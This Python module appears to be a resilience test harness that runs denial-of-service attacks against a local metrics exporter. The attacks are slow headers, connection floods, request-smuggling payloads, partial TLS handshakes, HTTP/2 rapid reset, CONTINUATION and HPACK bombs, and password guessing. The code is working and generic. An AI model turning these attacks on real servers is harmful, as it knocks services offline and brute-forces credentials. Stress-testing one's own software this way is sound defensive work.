"""The attacks. Each opens its connections, keeps on until it is cancelled, and leaves the rest to the target."""

import asyncio
import base64
import contextlib
import itertools
import os
import ssl
import struct
from dataclasses import dataclass
from typing import Callable

import http2

# A connection that the target refuses or closes is what it is for.
REFUSED = (OSError, ssl.SSLError, asyncio.IncompleteReadError)
GET = "GET {path} HTTP/1.1\r\nHost: localhost\r\n{headers}\r\n"


def get(path, **headers):
    lines = "".join(f"{name.replace('_', '-')}: {value}\r\n" for name, value in headers.items())
    return GET.format(path=path, headers=lines).encode()


@dataclass
class Siege:
    name: str
    # The target: plain, tls, locked, which is TLS with a password, or hanging, which has a cluster without a response.
    target: str
    attack: Callable
    # The seconds that it needs to have its effect.
    at_least: float = 0
    # It needs a route or a cluster of this exporter.
    is_ours: bool = False
    # It is one of the short run.
    is_short: bool = True


SIEGES = []


def siege(name, target, **more):
    def add(attack):
        SIEGES.append(Siege(name, target, attack, **more))
        return attack

    return add


async def crowd(count, client, abreast=200):
    """Runs `count` clients at once, and another one for each that has ended, some time after."""
    opening = asyncio.Semaphore(abreast)

    async def keep(number):
        while True:
            with contextlib.suppress(*REFUSED):
                await client(number, opening)
            await asyncio.sleep(0.2)

    await asyncio.gather(*(keep(number) for number in range(count)))


async def closed(reader):
    """Waits until the target closes; what it sends is thrown away."""
    while await reader.read(1 << 16):
        pass


async def unread(target, opening, first, protocol="http/1.1"):
    """A client that sends `first` and never reads. It comes again after a while, since it does not see the end either."""
    async with opening:
        _, writer = await target.connect(protocol, window=4096)
    try:
        writer.write(first)
        await asyncio.sleep(20)
    finally:
        writer.transport.abort()


async def windowless(target, opening, first):
    """A client of HTTP/2 that reads frames, and takes not a byte of a body."""
    async with opening:
        reader, writer = await target.connect("h2")
    try:
        writer.write(http2.hello(window=0) + first)
        await closed(reader)
    finally:
        writer.transport.abort()


@siege("5,000 heads, a byte a second", "plain")
async def slow_heads(target, scale):
    async def client(_, opening):
        async with opening:
            reader, writer = await target.connect()
        try:
            for byte in itertools.cycle(get("/metrics", X="y" * 400)[:-2]):
                writer.write(bytes([byte]))
                await writer.drain()
                await asyncio.sleep(1)
                if reader.at_eof() or writer.is_closing():
                    return
        finally:
            writer.transport.abort()

    await crowd(int(5000 * scale), client)


@siege("2,000 silent connections", "plain")
async def silent(target, scale):
    async def client(_, opening):
        async with opening:
            reader, writer = await target.connect()
        try:
            await closed(reader)
        finally:
            writer.transport.abort()

    await crowd(int(2000 * scale), client)


@siege("connections that come and go", "plain")
async def churn(target, _):
    async def client(_, opening):
        async with opening:
            _, writer = await target.connect()
            writer.transport.abort()
        await asyncio.sleep(0.05)

    await crowd(100, client)


@siege("60 unread pages", "plain")
async def unread_pages(target, _):
    await crowd(60, lambda _, opening: unread(target, opening, get("/metrics", X_Prometheus_Scrape_Timeout_Seconds=3)), abreast=1)


@siege("60 unread lists of clusters", "plain", is_ours=True)
async def unread_lists(target, _):
    await crowd(60, lambda _, opening: unread(target, opening, get("/api/v1/clusters")), abreast=4)


@siege("60 clients that read 1 KiB a second", "plain")
async def slow_readers(target, _):
    async def client(_, opening):
        async with opening:
            reader, writer = await target.connect(window=4096)
        try:
            writer.write(get("/metrics", X_Prometheus_Scrape_Timeout_Seconds=3))
            writer.transport.resume_reading()
            while await reader.read(1024):
                await asyncio.sleep(1)
        finally:
            writer.transport.abort()

    await crowd(60, client, abreast=4)


@siege("requests in a row, nothing read", "plain")
async def pipeline(target, _):
    await crowd(200, lambda _, opening: unread(target, opening, get("/-/healthy") * 20_000))


async def insistent(target, opening, request):
    """A client that asks again as soon as it is refused."""
    async with opening:
        reader, writer = await target.connect()
    try:
        while True:
            writer.write(request)
            await reader.readuntil(b"\r\n\r\n")
            await asyncio.sleep(0.2)
    finally:
        writer.transport.abort()


@siege("45 requests of two minutes over a hanging cluster", "hanging", at_least=25, is_ours=True)
async def patient(target, _):
    request = get("/metrics", X_Prometheus_Scrape_Timeout_Seconds=120)
    await crowd(45, lambda _, opening: insistent(target, opening, request))


@siege("45 probes of two minutes of a hanging cluster", "hanging", at_least=25, is_ours=True, is_short=False)
async def patient_probes(target, _):
    request = get("/probe?target=c-hanging", X_Prometheus_Scrape_Timeout_Seconds=120)
    await crowd(45, lambda _, opening: insistent(target, opening, request))


@siege("lengths that contradict each other", "plain")
async def smuggling(target, _):
    hidden = b"GET /-/healthy HTTP/1.1\r\nHost: localhost\r\n\r\n"
    forms = [
        (b"Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + hidden),
        (b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n", b"0\r\n\r\n" + hidden),
        (b"Transfer-Encoding : chunked\r\n", b"0\r\n\r\n" + hidden),
        (b"Content-Length: 1\r\nContent-Length: 2\r\n", b"x" + hidden),
        (b"Content-Length: +5\r\n", b"xxxxx" + hidden),
        (b"X: y\r\n z: folded\r\nContent-Length: 0x5\r\n", hidden),
    ]

    async def client(number, opening):
        headers, body = forms[number % len(forms)]
        async with opening:
            reader, writer = await target.connect()
            writer.write(b"POST /metrics HTTP/1.1\r\nHost: localhost\r\n" + headers + b"\r\n" + body)
            await asyncio.wait_for(closed(reader), 5)
            writer.transport.abort()

    await crowd(50, client)


@siege("1,000 halves of a handshake", "tls")
async def half_handshakes(target, scale):
    # A record of 16 KiB that begins a ClientHello of 60 KiB, and no more.
    record = b"\x16\x03\x01" + struct.pack(">H", 16384) + b"\x01" + struct.pack(">I", 60_000)[1:] + b"\x03\x03" + os.urandom(16378)

    async def client(_, opening):
        async with opening:
            reader, writer = await asyncio.open_connection("127.0.0.1", target.port)
        try:
            writer.write(record * 3)
            await closed(reader)
        finally:
            writer.transport.abort()

    await crowd(int(1000 * scale), client)


@siege("unread pages on one connection of HTTP/2", "tls")
async def unread_streams(target, _):
    await crowd(1, lambda _, opening: windowless(target, opening, http2.requests(64, "/metrics")))


@siege("unread pages on 40 connections of HTTP/2", "tls")
async def many_unread_streams(target, _):
    await crowd(40, lambda _, opening: windowless(target, opening, http2.requests(64, "/metrics")), abreast=4)


@siege("requests that are reset at once", "tls")
async def rapid_reset(target, _):
    async def client(_, opening):
        async with opening:
            reader, writer = await target.connect("h2")
        try:
            writer.write(http2.hello())
            ended = asyncio.ensure_future(closed(reader))
            for stream in itertools.count(1, 2):
                writer.write(http2.request(stream, "/metrics") + http2.frame(http2.RST_STREAM, 0, stream, struct.pack(">I", 8)))
                if stream % 50 == 1:
                    await writer.drain()
                    await asyncio.sleep(0)
                if ended.done() or writer.is_closing():
                    return
        finally:
            writer.transport.abort()

    await crowd(20, client)


@siege("a head without an end (CONTINUATION)", "tls")
async def continuation(target, _):
    async def client(_, opening):
        async with opening:
            reader, writer = await target.connect("h2")
        try:
            writer.write(http2.hello() + http2.frame(http2.HEADERS, http2.END_STREAM, 1, http2.head("/-/healthy")))
            ended = asyncio.ensure_future(closed(reader))
            more = http2.frame(http2.CONTINUATION, 0, 1, (b"\x00\x01x\x7f" + b"y" * 127) * 100)
            while not ended.done() and not writer.is_closing():
                writer.write(more)
                await writer.drain()
                await asyncio.sleep(0)
        finally:
            writer.transport.abort()

    await crowd(20, client)


@siege("a head that unpacks to 60 MB (HPACK)", "tls")
async def hpack(target, _):
    # A header of 4,000 bytes is remembered once, and named 15,000 times in a byte each.
    value = b"\x7f" + b"\xa1\x1e" + b"v" * 4000
    head = http2.head("/-/healthy") + b"\x40\x01x" + value
    bomb = http2.frame(http2.HEADERS, http2.END_STREAM | http2.END_HEADERS, 1, head)
    for stream in range(3, 200, 2):
        block = http2.head("/-/healthy") + b"\xbe" * 15_000
        bomb += http2.frame(http2.HEADERS, http2.END_STREAM | http2.END_HEADERS, stream, block)
    await crowd(50, lambda _, opening: windowless(target, opening, bomb))


@siege("pings and settings, nothing read", "tls")
async def pings(target, _):
    flood = (http2.frame(http2.PING, 0, 0, b"12345678") + http2.frame(http2.SETTINGS, 0, 0)) * 20_000
    await crowd(100, lambda _, opening: unread(target, opening, http2.hello() + flood, protocol="h2"))


@siege("1,000 connections of 64 requests without a password", "locked")
async def unread_health(target, scale):
    first = http2.requests(32, "/-/healthy") + b"".join(http2.request(2 * number + 1, "/metrics") for number in range(32, 64))
    await crowd(int(1000 * scale), lambda _, opening: windowless(target, opening, first), abreast=50)


@siege("wrong passwords from 200 clients", "locked")
async def guesses(target, _):
    async def client(number, opening):
        async with opening:
            reader, writer = await target.connect()
        try:
            for guess in itertools.count():
                login = base64.b64encode(f"{number}:{guess}".encode()).decode()
                writer.write(get("/metrics", Authorization=f"Basic {login}"))
                await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 10)
        finally:
            writer.transport.abort()

    await crowd(200, client)
